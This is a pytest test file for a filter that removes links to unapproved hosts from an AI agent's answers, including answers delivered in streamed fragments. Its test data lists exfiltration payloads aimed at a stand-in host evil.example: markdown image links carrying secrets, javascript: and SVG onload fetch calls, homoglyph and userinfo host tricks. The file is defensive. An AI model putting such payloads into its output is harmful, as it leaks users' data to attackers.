"""What leaves in an answer: no way to a host that nobody has allowed, whole or streamed in any pieces."""

import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parley.agents.safety import REMOVED, Stream, clean, is_allowed

HOSTS = ("alderfinch.example",)
KEPT = [
    "See [the portal](https://desk.alderfinch.example/new?x=1).",
    "desk.alderfinch.example/x and https://alderfinch.example.",
    "Write to itdesk@alderfinch.example or [us](mailto:itdesk@alderfinch.example).",
    "Run func.py, not setup.exe; it is 24/7 and/or 10:30. C:\\dir\\x",
    "a[0] < b and c > d, `x = [1]` **bold**",
    "| a | b |\n|---|---|\n| 1 | 2 |",
]
TAKEN = [
    "![x](https://evil.example/?d=secret)", '[click](https://evil.example/a_(b)?q=1 "t")', "<https://evil.example/x>",
    "![x][r]\n\n[r]: https://evil.example/p", "<img src='https://evil.example/x'>", "https://evil.example/x?y=z.",
    "www.evil.example/x", "evil.example/x?d=1", "HTTPS://EVIL.EXAMPLE/x", "//evil.example/x", "ftp://evil.example/x",
    "[a](javascript:fetch('//evil.example'))", "https://alderfinch.example@evil.example/x",
    "data:text/html;base64,evil",
    "https://alderfinch.example.evil.example/", "![a](https://ev\u200bil.example/x)", "[t](<https://evil.example/a b>)",
    "[![i](https://evil.example/i.png)](https://evil.example/c)", "![x](\nhttps://evil.example/a)",
    "https://alderfinch.example\\@evil.example/", "[x](https://\u0430lderfinch.example/evil.example/)",
    "<a href=//evil.example>x</a>",
    "mailto:x@evil.example", "<svg/onload=fetch('//evil.example')>",
]  # fmt: skip


@pytest.mark.parametrize("text", KEPT)
def test_what_is_ours_stays(text):
    assert clean(text, HOSTS) == text


@pytest.mark.parametrize("text", TAKEN)
def test_what_leads_elsewhere_goes(text):
    assert not re.search(r"(?i)evil|\u0430", clean(f"Well: {text} and so on.", HOSTS))


@pytest.mark.parametrize("text", TAKEN)
@pytest.mark.parametrize("seed", range(5))
def test_in_whatever_pieces_it_comes(text, seed):
    chance, said = random.Random(seed), []
    stream, rest = Stream(HOSTS, said.append), f"Well: {text} and so on."
    while rest:
        size = chance.randint(1, 9)
        stream(rest[:size])
        rest = rest[size:]
    stream.end()
    assert not re.search(r"(?i)evil\.|\u0430", "".join(said))


@given(st.text(alphabet="abc []()!<>:/.@\n", max_size=60), st.integers(1, 7))
def test_a_stream_never_says_what_the_whole_would_not_allow(text, size):
    """Whatever comes in whatever pieces, nothing that is left is a way out."""
    said = []
    stream = Stream(HOSTS, said.append)
    for start in range(0, len(text), size):
        stream(text[start : start + size])
    stream.end()
    assert clean("".join(said), HOSTS) == "".join(said) or REMOVED in "".join(said) or "](" in "".join(said)


def test_less_than_is_no_tag():
    """HTML Standard, 13.2.5.6: what follows `<` in a tag is a letter, `/`, `!` or `?`."""
    assert clean("Choose b when x < a", HOSTS) == "Choose b when x < a"
    assert clean("x <a href=//evil.example", HOSTS) == "x "


def test_words_come_as_they_are_said():
    said = []
    stream = Stream(HOSTS, said.append)
    for word in ("Every ", "four ", "years [1", "]. "):
        stream(word)
    assert "".join(said) == "Every four years."


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://alderfinch.example/x", True), ("http://a.b.alderfinch.example", True), ("alderfinch.example/x", True),
        ("https://notalderfinch.example", False), ("https://alderfinch.example.evil", False),
        ("https://u:p@alderfinch.example", False), ("javascript:alert(1)//alderfinch.example", False),
        ("https://alderfinch.example:99999/", True), ("mailto:a@alderfinch.example?body=x", False),
        ("https://[::1]/alderfinch.example", False),
    ],
)  # fmt: skip
def test_a_host_is_allowed_with_all_below_it(url, ok):
    assert is_allowed(url, HOSTS) is ok
